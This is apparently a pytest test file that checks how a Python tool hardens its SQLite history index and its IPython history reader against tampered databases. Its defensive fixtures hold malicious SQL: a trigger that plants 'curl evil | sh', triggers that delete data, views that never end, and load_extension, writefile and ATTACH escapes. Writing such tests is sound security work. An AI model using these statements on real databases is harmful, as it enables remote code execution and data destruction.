"""A database that somebody else made: it is read, or made anew, and nothing of it is ever run."""

# ruff: noqa: S608
# The statements are ours.

from __future__ import annotations

import sqlite3
import stat
from contextlib import closing
from pathlib import Path

import pytest

from stui_workspace.errors import DiskError
from stui_workspace.history import Entry, Query, Within
from stui_workspace.history.hardening import harden
from stui_workspace.history.index import HistoryIndex
from stui_workspace.history.index_tables import NAME, opened
from stui_workspace.history.log import HistoryLog
from stui_workspace.runtime.searching.ipython import ipython
from stui_workspace.storage.filesystem import RealFileSystem

JUNE = 1_781_500_000.0


class Planted:
    """A history with one input, and an index that somebody got at."""

    def __init__(self, folder: Path) -> None:
        self.outside = folder / "outside"
        self.outside.write_text("theirs")
        self.log = HistoryLog(folder / "history", "laptop")
        self.cache = folder / "cache"
        self.path = self.cache / NAME
        self.folder = folder
        self.log.append(Entry(JUNE, "py", "select 1", "w"))
        self.codes()

    def codes(self) -> list[str]:
        """What is found after the next input."""
        folder = self.folder / "history"
        with closing(HistoryIndex(folder, self.cache, RealFileSystem(), lambda: JUNE * 2)) as index:
            index.update()
            return [one.code for one in index.search(Query.read(""), Within(), 99)]

    def run(self, *statements: str) -> None:
        with closing(sqlite3.connect(self.path, isolation_level=None)) as link:
            for statement in statements:
                link.execute(statement)

    def schema(self) -> set[tuple[str, str]]:
        with closing(sqlite3.connect(self.path)) as link:
            return set(link.execute("SELECT type, name FROM sqlite_master"))


@pytest.fixture
def planted(tmp_path: Path) -> Planted:
    return Planted(tmp_path)


ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n)"
CRAFTED = {
    "a trigger": (
        ("CREATE TRIGGER added AFTER INSERT ON entries BEGIN"
        " UPDATE texts SET code='curl evil | sh'; END"),
    ),
    "a trigger of tables of its own": (
        "CREATE TABLE theirs(x)",
        "CREATE TRIGGER t AFTER INSERT ON theirs BEGIN DELETE FROM texts; END",
    ),
    "a view for a table": (
        "ALTER TABLE places RENAME TO their_places",
        "CREATE VIEW places AS SELECT * FROM their_places",
    ),
    "a view without end": (
        "DROP TABLE names",
        f"CREATE VIEW names AS {ENDLESS} SELECT x AS key, x AS id FROM n",
    ),
    "a generated column": (
        "ALTER TABLE texts ADD COLUMN more GENERATED ALWAYS AS (upper(code))",
    ),
    "an index that runs a function": ("CREATE INDEX theirs ON texts(upper(code))",),
    "another virtual table": (
        "DROP TABLE trigrams",
        "CREATE VIRTUAL TABLE trigrams USING rtree(id, a, b)",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", CRAFTED)
def test_an_index_with_more_in_it_than_ours_is_made_anew(planted: Planted, name: str) -> None:
    before = planted.schema()
    planted.run(*CRAFTED[name])
    assert planted.schema() != before or name == "a generated column"
    planted.log.append(Entry(JUNE + 1.0, "py", "select 2", "w"))
    assert planted.codes() == ["select 2", "select 1"]
    assert planted.schema() == before


def test_an_index_as_we_make_it_is_kept(planted: Planted) -> None:
    number = planted.path.stat().st_ino
    assert planted.codes() == ["select 1"]
    assert planted.path.stat().st_ino == number


@pytest.mark.parametrize("end", ["-wal", "-shm", "-journal"])
def test_nothing_is_written_through_a_link_beside_it(planted: Planted, end: str) -> None:
    beside = planted.path.with_name(planted.path.name + end)
    beside.unlink(missing_ok=True)
    beside.symlink_to(planted.outside)
    planted.log.append(Entry(JUNE + 1.0, "py", "select 2", "w"))
    assert planted.codes() == ["select 2", "select 1"]
    assert planted.outside.read_text() == "theirs"
    assert planted.outside.stat().st_size == len("theirs")


def test_one_that_others_may_read_is_for_its_owner_again(planted: Planted) -> None:
    planted.path.chmod(0o644)
    planted.log.append(Entry(JUNE + 1.0, "py", "select 2", "w"))
    link = opened(planted.path, RealFileSystem())
    link.execute("UPDATE files SET damaged=damaged")
    modes = {stat.S_IMODE(one.stat().st_mode) for one in planted.cache.iterdir()}
    link.close()
    assert modes == {0o600}


STATEMENTS = (
    "ATTACH DATABASE '{0}' AS theirs",
    "SELECT load_extension('{0}')",
    "SELECT writefile('{0}', 'x')",
    "SELECT fts3_tokenizer('simple', x'00')",
    "VACUUM INTO '{0}'",
)


@pytest.mark.parametrize("statement", STATEMENTS)
def test_no_statement_reaches_another_file_or_code(tmp_path: Path, statement: str) -> None:
    path = tmp_path / "there"
    with closing(opened(tmp_path / "cache" / NAME, RealFileSystem())) as link:
        with pytest.raises(sqlite3.Error):
            link.execute(statement.format(path))
        assert link.execute("PRAGMA trusted_schema").fetchone() == (0,)
    assert not path.exists()


def test_a_link_that_is_hardened_needs_nothing_of_a_new_python(tmp_path: Path) -> None:
    """`setconfig` came with 3.12: what it adds is asked for where it is there."""
    asked: list[tuple[int, bool]] = []

    class Newer(sqlite3.Connection):
        def setconfig(self, number: int, enable: bool = True, /) -> None:  # noqa: FBT002
            asked.append((number, enable))

    with closing(sqlite3.connect(tmp_path / "a", factory=Newer)) as link:
        harden(link)
    assert len(asked) == 3
    assert (1010, True) in asked, "defensive"


def an_ipython(path: Path, *statements: str) -> None:
    with closing(sqlite3.connect(path, isolation_level=None)) as link:
        for statement in statements:
            link.execute(statement)


SESSIONS = "CREATE TABLE sessions(session INTEGER, start TIMESTAMP)"
HISTORIES = {
    "a view without end": (
        SESSIONS,
        f"CREATE VIEW history AS {ENDLESS} SELECT x session, x line, x source_raw FROM n",
    ),
    "a view of another": (
        SESSIONS,
        ("CREATE VIEW history AS SELECT 1 AS session, 1 AS line, sql AS source_raw"
        " FROM sqlite_master"),
    ),
    "a virtual table": (
        "CREATE VIRTUAL TABLE history USING fts5(session, line, source_raw)",
        SESSIONS,
    ),
    "sessions that are a view": (
        "CREATE TABLE history(session, line, source_raw)",
        f"CREATE VIEW sessions AS {ENDLESS} SELECT x AS session, x AS start FROM n",
    ),
    "a column that is worked out": (
        SESSIONS,
        "CREATE TABLE history(session, line, source_raw AS (hex(zeroblob(9999999))))",
        "INSERT INTO history(session, line) VALUES(1, 1)",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HISTORIES)
def test_a_history_of_ipython_is_tables_or_none(tmp_path: Path, name: str) -> None:
    path = tmp_path / "history.sqlite"
    an_ipython(path, *HISTORIES[name])
    with pytest.raises(DiskError, match="no history of IPython"):
        list(ipython(path))


def test_a_history_of_ipython_as_it_is_can_be_read(tmp_path: Path) -> None:
    path = tmp_path / "history.sqlite"
    an_ipython(
        path,
        "CREATE TABLE sessions (session integer primary key autoincrement, start timestamp)",
        "CREATE TABLE history (session integer, line integer, source text, source_raw text,"
        " PRIMARY KEY (session, line))",
        "INSERT INTO history VALUES(1, 1, 'a', 'a')",
    )
    before = sorted(tmp_path.iterdir())
    assert [one.code for one in ipython(path) if one] == ["a"]
    assert sorted(tmp_path.iterdir()) == before
